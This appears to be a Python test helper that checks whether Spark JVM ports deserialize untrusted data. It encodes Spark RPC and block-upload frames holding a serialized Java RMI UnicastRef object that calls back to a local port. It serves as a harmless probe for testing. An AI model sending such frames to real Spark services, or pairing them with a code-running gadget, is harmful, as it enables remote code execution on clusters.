"""What a stranger can send to the ports of a Spark JVM: serialized Java objects in Spark's framing.

The object is harmless: whoever deserializes it opens a connection to the stranger's port, which proves that
a worse object would have run code.
"""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import Collection
from pathlib import Path

RPC_REQUEST, ONE_WAY, UPLOAD_STREAM = 3, 9, 10
UPLOAD_BLOCK, UPLOAD_BLOCK_STREAM = 1, 6
LISTENS = "0A"


def listening_ports(pid: int) -> set[int]:
    """The TCP ports on which a process listens, on any address; none if it has ended."""
    sockets = set()
    with contextlib.suppress(FileNotFoundError):
        for descriptor in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(FileNotFoundError):
                sockets.add(str(descriptor.readlink()))
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENS and f"socket:[{fields[9]}]" in sockets:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return ports


def frames(calls: int) -> dict[str, bytes]:
    """Messages of every kind whose content Spark deserializes; `calls` is the port that the object calls."""
    content = _object_that_calls(calls)
    # To the endpoint that every RPC port has.
    request = _address("127.0.0.1", 1) + _address("127.0.0.1", 2) + _utf("endpoint-verifier") + content
    upload = bytes([UPLOAD_BLOCK]) + b"".join(
        map(_sized, (b"app", b"driver", b"test_block", content, b"data"))
    )
    stream = bytes([UPLOAD_BLOCK_STREAM]) + _sized(b"test_block") + _sized(content)
    stream_header = bytes([UPLOAD_STREAM]) + struct.pack(">qi", 1, len(stream)) + stream + bytes(8)
    return {
        "request": _frame(bytes([RPC_REQUEST]) + struct.pack(">qi", 1, len(request)), request),
        "one-way": _frame(bytes([ONE_WAY]) + struct.pack(">i", len(request)), request),
        "block": _frame(bytes([RPC_REQUEST]) + struct.pack(">qi", 1, len(upload)), upload),
        "stream": _frame(stream_header, b""),
    }


def send(port: int, message: bytes, seconds: float, until: Collection[bytes] = ()) -> bytes:
    """What the port answers until it closes the connection or has said one of `until`, for at most
    `seconds`."""
    answer = b""
    with (
        socket.create_connection(("127.0.0.1", port), seconds) as stranger,
        contextlib.suppress(ConnectionError, TimeoutError),
    ):
        stranger.sendall(message)
        while not any(word in answer for word in until) and (part := stranger.recv(65536)):
            answer += part
    return answer


def _frame(header: bytes, body: bytes) -> bytes:
    return struct.pack(">q", 8 + len(header) + len(body)) + header + body


def _address(host: str, port: int) -> bytes:
    return b"\x01" + _utf(host) + struct.pack(">i", port)


def _utf(text: str) -> bytes:
    return struct.pack(">H", len(text)) + text.encode()


def _sized(value: bytes) -> bytes:
    return struct.pack(">i", len(value)) + value


def _object_that_calls(port: int) -> bytes:
    """A reference to a remote object: reading it tells the object's host, here ours, that it is in use."""
    reference = _utf("UnicastRef") + _utf("127.0.0.1") + struct.pack(">i", port)
    reference += struct.pack(">qiqh", 1, 1, 1, 1) + b"\x00"
    handler = _class("java.rmi.server.RemoteObjectInvocationHandler", 2, written=False)
    remote = _class("java.rmi.server.RemoteObject", -3215090123894869218, written=True)
    written = b"\x70" + bytes([0x77, len(reference)]) + reference + b"\x78"
    return b"\xac\xed\x00\x05\x73" + handler + remote + written


def _class(name: str, version: int, *, written: bool) -> bytes:
    """The description of a class without fields; `written` if it has a method that writes it."""
    flags = 3 if written else 2
    return b"\x72" + _utf(name) + struct.pack(">qBH", version, flags, 0) + b"\x78"
